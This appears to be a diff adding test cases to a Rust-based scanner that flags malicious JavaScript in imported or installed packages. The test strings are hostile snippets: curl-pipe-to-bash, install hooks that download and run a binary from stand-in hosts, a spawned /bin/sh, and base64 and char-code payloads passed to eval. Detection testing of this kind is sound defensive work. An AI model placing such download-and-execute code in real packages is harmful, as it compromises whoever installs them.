@@ -157,9 +157,43 @@ fn commands_from_elsewhere_are_found() {
         &import("const start = globalThis.helper; start('curl -s https://a.example/x | bash');"),
         "js-shell-download-run",
     );
+    finds(
+        &install(
+            "const cp = require('child_process'); cp.execSync('curl -o /tmp/agent https://a.example/a'); cp.execSync('chmod +x /tmp/agent'); cp.spawn('/tmp/agent');",
+        ),
+        "js-shell-download-run",
+    );
+    finds(
+        &import("process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh'] });"),
+        "js-hidden-call",
+    );
+    quiet(&import("process.binding('natives');"));
     quiet(&import(
         "console.log('To install: curl -s https://a.example/x | bash'); const W = require('ws'); new W('wss://c.example/a').on('message', console.log);",
     ));
+}
+
+#[test]
+fn code_is_made_of_what_a_small_file_holds() {
+    finds(
+        &import(
+            "const p = require('os').tmpdir() + '/u.js'; require('fs').writeFileSync(p, Buffer.from('cmVxdWlyZSgneCcp', 'base64')); require(p);",
+        ),
+        "js-decode-eval",
+    );
+    let numbers = (0..80).map(|at| (at + 40).to_string()).collect::<Vec<_>>();
+    let code = format!(
+        "class D {{ run(a) {{ return a.map(x => this.one(x)).join(''); }} one(x) {{ return helper(x); }} }} (0, eval)(new D().run([{}]));",
+        numbers.join(",")
+    );
+    finds(&import(&code), "js-decode-eval");
+    quiet(&import("(0, eval)(process.argv[2]);"));
+    finds(
+        &install(
+            "const { pipeline } = require('stream/promises'), fs = require('fs'), cp = require('child_process'); (async () => { const r = await fetch('https://d.example/agent'); const p = '/tmp/agent'; await pipeline(r.body, fs.createWriteStream(p)); cp.execFile(p); })();",
+        ),
+        "js-download-execute",
+    );
 }
 
 #[test]
